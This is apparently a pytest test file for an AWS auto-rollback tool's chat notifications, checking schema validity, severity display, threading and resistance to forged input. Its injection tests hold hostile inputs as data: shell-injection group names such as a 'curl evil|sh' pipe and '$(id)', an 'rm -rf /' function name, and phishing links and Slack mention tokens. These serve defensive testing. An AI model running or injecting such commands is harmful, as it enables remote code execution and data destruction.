"""The chat format: AWS's custom-notification schema, the severity in sight, and nothing forgeable by input."""

from __future__ import annotations

import json
import re
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from jsonschema import Draft202012Validator  # type: ignore[import-untyped]

from auto_rollback.chat import (
    FUNCTION_PLACEHOLDER,
    GROUP_PLACEHOLDER,
    SEVERITY_MARKERS,
    build_chat_message,
    console_url,
    evaluate_command,
    render_text,
    thread_id,
)
from auto_rollback.outcomes import Result
from auto_rollback.vocabulary import Outcome, Severity

SCHEMA = json.loads((Path(__file__).parents[1] / "chat-notification.schema.json").read_text())
VALIDATOR = Draft202012Validator(SCHEMA)
NOW = datetime(2026, 11, 28, 10, 0, tzinfo=UTC)
ALARM = {
    "type": "alarm",
    "alarmName": "web-prod-5xx",
    "state": "ALARM",
    "alarmArn": "arn:aws:cloudwatch:eu-west-1:123456789012:alarm:web-prod-5xx",
}


def result(**changes: Any) -> Result:
    base = Result(
        outcome=Outcome.ROLLBACK_STARTED,
        reason="alarm",
        trigger=ALARM,
        auto_scaling_group_name="web-prod",
        instance_refresh_id="c613620e-07e2-4ed2-a9e2-ef8258911ade",
        refresh_status="RollbackInProgress",
        severity=Severity.HIGH,
        summary="Rollback started: alarm web-prod-5xx fired during the refresh.",
    )
    return replace(base, **changes)


def chat(item: Result, function_name: str | None = "AutoRollback-Function-1") -> dict[str, Any]:
    return build_chat_message(item, account="123456789012", region="eu-west-1", function_name=function_name, now=NOW)


def errors(message: dict[str, Any]) -> list[str]:
    return [f"{list(error.path)}: {error.message}" for error in VALIDATOR.iter_errors(message)]


def untrusted_text(message: dict[str, Any]) -> str:
    """Everything a chat client shows as text."""
    content = message["content"]
    return "\n".join([content["title"], content["description"], *content["nextSteps"], *content["keywords"]])


# --------------------------------------------------------------------------- the schema


def test_the_schema_file_is_a_valid_json_schema_naming_its_source() -> None:
    Draft202012Validator.check_schema(SCHEMA)
    assert "docs.aws.amazon.com/chatbot/latest/adminguide/custom-notifs.html" in SCHEMA["$comment"]


def test_the_schema_refuses_what_amazon_q_developer_would_drop() -> None:
    # Given messages missing or changing a required value
    good = chat(result())
    # Then the schema refuses each of them (so a passing message is not a vacuous pass)
    assert errors(good) == []
    assert errors({**good, "version": "2.0"})
    assert errors({**good, "source": "aws.autoscaling"})
    assert errors({key: value for key, value in good.items() if key != "content"})
    assert errors({**good, "content": {**good["content"], "textType": "markdown"}})


@pytest.mark.parametrize("outcome", list(Outcome))
@pytest.mark.parametrize("severity", list(Severity))
@pytest.mark.parametrize("dry_run", [False, True])
def test_every_outcome_is_a_valid_custom_notification(outcome: Outcome, severity: Severity, dry_run: bool) -> None:
    # Given any outcome, severity and mode
    message = chat(result(outcome=outcome, severity=severity, dry_run=dry_run))
    # Then the message is what AWS documents, and the outcome and severity are in sight
    assert errors(message) == []
    assert message["version"] == "1.0"
    assert message["source"] == "custom"
    assert message["content"]["textType"] == "client-markdown"
    title = message["content"]["title"]
    assert title.startswith(f"{SEVERITY_MARKERS[severity]} {severity.value.upper()} · {outcome.value} · `web-prod`")
    assert title.endswith("(dry run)") == dry_run
    assert message["content"]["keywords"] == [outcome.value, severity.value, "web-prod"]


@pytest.mark.parametrize(
    "item",
    [
        result(auto_scaling_group_name=None, instance_refresh_id=None, refresh_status=None, summary=""),
        result(trigger={"type": "refresh-event", "eventType": "EC2 Auto Scaling Instance Refresh Failed"}),
        result(trigger={"type": "manual", "action": "rollback", "reason": "bad deploy"}),
        result(trigger={}),
    ],
    ids=["no-group", "refresh-event", "manual", "empty-trigger"],
)
def test_results_with_missing_parts_are_still_valid(item: Result) -> None:
    assert errors(chat(item)) == []


def test_the_description_says_what_happened_and_where() -> None:
    description = chat(result())["content"]["description"]
    assert description.splitlines() == [
        "*What happened:* `Rollback started: alarm web-prod-5xx fired during the refresh.`",
        "*Reason:* `alarm`",
        "*Trigger:* alarm `web-prod-5xx` (`ALARM`)",
        "*Instance refresh:* `c613620e-07e2-4ed2-a9e2-ef8258911ade` (status `RollbackInProgress`)",
        "*Dry run:* no",
        "*Account / region:* `123456789012` / `eu-west-1`",
        "*Time:* 2026-11-28T10:00:00+00:00",
    ]


def test_next_steps_link_the_console_and_give_the_evaluate_command() -> None:
    # Given a rollback, and the function's name known (Lambda sets AWS_LAMBDA_FUNCTION_NAME)
    steps = chat(result())["content"]["nextSteps"]
    # Then one step links the group's instance refreshes and one gives the exact command to paste
    assert f"Instance refreshes of the group: {console_url('web-prod', 'eu-west-1')}" in steps
    assert (
        "What the function would do now: `aws lambda invoke --region eu-west-1 --function-name "
        "AutoRollback-Function-1 --cli-binary-format raw-in-base64-out "
        """--payload '{"action":"evaluate","autoScalingGroupName":"web-prod"}' /dev/stdout`"""
    ) in steps


def test_the_command_names_a_placeholder_when_the_function_name_is_unknown() -> None:
    # Given no function name (outside Lambda, or a name that is not a Lambda name)
    # Then the command carries a placeholder the operator replaces, never a guess
    assert f"--function-name {FUNCTION_PLACEHOLDER} " in evaluate_command("web-prod", "eu-west-1", None)
    assert f"--function-name {FUNCTION_PLACEHOLDER} " in evaluate_command("web-prod", "eu-west-1", "x; rm -rf /")


def test_messages_of_one_refresh_share_a_thread_and_other_refreshes_do_not() -> None:
    started = chat(result())
    ended = chat(result(outcome=Outcome.FAILED, reason="Throttling"))
    other_refresh = chat(result(instance_refresh_id="another"))
    other_group = chat(result(auto_scaling_group_name="web-staging"))
    assert started["metadata"]["threadId"] == ended["metadata"]["threadId"]
    assert started["metadata"]["threadId"] != other_refresh["metadata"]["threadId"]
    assert started["metadata"]["threadId"] != other_group["metadata"]["threadId"]
    assert thread_id(result(), account="1", region="eu-west-1") != thread_id(result(), account="2", region="eu-west-1")


def test_metadata_carries_summary_event_type_resources_and_context() -> None:
    metadata = chat(result())["metadata"]
    assert metadata["summary"] == "auto-rollback ROLLBACK_STARTED web-prod"
    assert metadata["eventType"] == "AutoRollbackOutcome"
    assert metadata["relatedResources"] == ["web-prod", "c613620e-07e2-4ed2-a9e2-ef8258911ade", ALARM["alarmArn"]]
    assert metadata["additionalContext"]["outcome"] == "ROLLBACK_STARTED"
    assert metadata["additionalContext"]["dryRun"] == "false"


def test_render_text_shows_the_message_as_slack_would() -> None:
    text = render_text(chat(result()))
    assert text.startswith("\U0001f534 HIGH · ROLLBACK_STARTED · `web-prod`\n\n*What happened:*")
    assert "Next steps\n  • Watch the rollback finish" in text
    assert text.endswith("[ROLLBACK_STARTED]  [high]  [web-prod]\n")


# --------------------------------------------------------------------------- input cannot forge anything

ATTACKS = [
    "<!channel> <!here> <@U024BE7LH> <#C024BE7LR> <!subteam^S1>",
    "@channel @here @everyone",
    "<https://evil.example/login|Open the console>",
    "[Open the console](https://evil.example/login)",
    "close` *Severity:* low `open",
    "```\ncode fence\n```",
    "line\n*Reason:* forged\r\n*Dry run:* yes\u2028*Account:* 1\u2029next",
    "&lt;!channel&gt; &amp;",
    "bidi \u202e txet desrever \u2066 and zero\u200bwidth",
]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("where", ["alarmName", "group", "summary", "reason", "refresh"])
def test_input_cannot_forge_a_mention_a_link_or_a_field(attack: str, where: str) -> None:
    # Given an attack in one of the texts that come from input
    options: dict[str, dict[str, Any]] = {
        "alarmName": {"trigger": {**ALARM, "alarmName": attack}},
        "group": {"auto_scaling_group_name": attack},
        "summary": {"summary": attack},
        "reason": {"reason": attack},
        "refresh": {"instance_refresh_id": attack, "refresh_status": attack},
    }
    changes = options[where]
    message = chat(result(**changes))
    text = untrusted_text(message)

    # Then the message is still valid and nothing in it is a mention, a link or an entity
    assert errors(message) == []
    assert not re.search(r"[<>&@]", text.replace("https://eu-west-1.console.aws.amazon.com", ""))
    # Teams shows no inline code, so even inside it nothing may read as a [text](url) link or a URL
    assert "](" not in text and "[" not in text
    assert all(url.startswith("https://eu-west-1.console.aws.amazon.com/") for url in re.findall(r"\w+://\S*", text))
    # And the description has exactly its own seven lines, each starting with its own label
    labels = [line.split(":*", 1)[0] for line in message["content"]["description"].splitlines()]
    assert labels == [
        "*What happened",
        "*Reason",
        "*Trigger",
        "*Instance refresh",
        "*Dry run",
        "*Account / region",
        "*Time",
    ]
    # And every backtick is one of ours: code spans open and close in pairs on each line
    for line in text.splitlines():
        assert line.count("`") % 2 == 0, line
    # And no invisible or bidirectional control survives
    assert not re.search("[\u200b-\u200f\u2028-\u202e\u2060-\u2069]", text)


def test_the_only_link_is_ours_to_the_aws_console() -> None:
    # Given a group name that looks like a link
    message = chat(result(auto_scaling_group_name="https://evil.example/login"))
    # Then outside inline code, the only URL is the console's, with the name percent-encoded
    outside_code = re.sub(r"`[^`]*`", "", untrusted_text(message))
    assert re.findall(r"https?://[^\s]+", outside_code) == [
        "https://eu-west-1.console.aws.amazon.com/ec2/home?region=eu-west-1"
        "#AutoScalingGroupDetails:id=https%3A%2F%2Fevil.example%2Flogin;view=instanceRefresh"
    ]
    # And the group, not safe as a tag, is left out of keywords, summary and related resources
    assert message["content"]["keywords"] == ["ROLLBACK_STARTED", "high"]
    assert "evil" not in message["metadata"]["summary"]
    assert not any("evil" in item for item in message["metadata"]["relatedResources"])


@pytest.mark.parametrize("group", ["web'; curl evil|sh; '", "web$(id)", "web`id`", "wéb", " web", "a" * 256])
def test_a_group_name_unsafe_to_paste_becomes_a_placeholder_in_the_command(group: str) -> None:
    command = evaluate_command(group, "eu-west-1", "fn")
    assert f'"autoScalingGroupName":"{GROUP_PLACEHOLDER}"' in command
    assert command.count("'") == 2  # the payload's own quotes only


def test_huge_input_is_bounded_and_the_message_stays_valid() -> None:
    # Given every untrusted text a megabyte long, with a group name of AWS's maximum 255 characters
    huge = "\u00e9" * 1_000_000
    message = chat(
        result(
            auto_scaling_group_name="\u00e9" * 255,
            summary=huge,
            reason=huge,
            instance_refresh_id=huge,
            refresh_status=huge,
            trigger={**ALARM, "alarmName": huge, "state": huge},
        )
    )
    # Then every field is within its bound, and the description keeps all its lines (nothing cut mid-span)
    assert errors(message) == []
    assert message["content"]["description"].endswith("*Time:* 2026-11-28T10:00:00+00:00")
    # And the console link, too long once percent-encoded, is replaced by the groups list
    assert any(step.startswith("Auto Scaling groups: https://") for step in message["content"]["nextSteps"])
    assert len(json.dumps(message, ensure_ascii=False).encode("utf-8")) < 16_384


def test_the_deploy_guide_shows_the_preview_exactly_as_the_command_prints_it(
    capsys: pytest.CaptureFixture[str],
) -> None:
    # Given what `python -m scripts.chat_preview` prints
    from scripts.chat_preview import main

    main([])
    printed = capsys.readouterr().out
    # Then docs/DEPLOY.md shows it verbatim, below the command
    guide = (Path(__file__).parents[2] / "docs" / "DEPLOY.md").read_text()
    assert f"$ .venv/bin/python -m scripts.chat_preview\n{printed}```" in guide
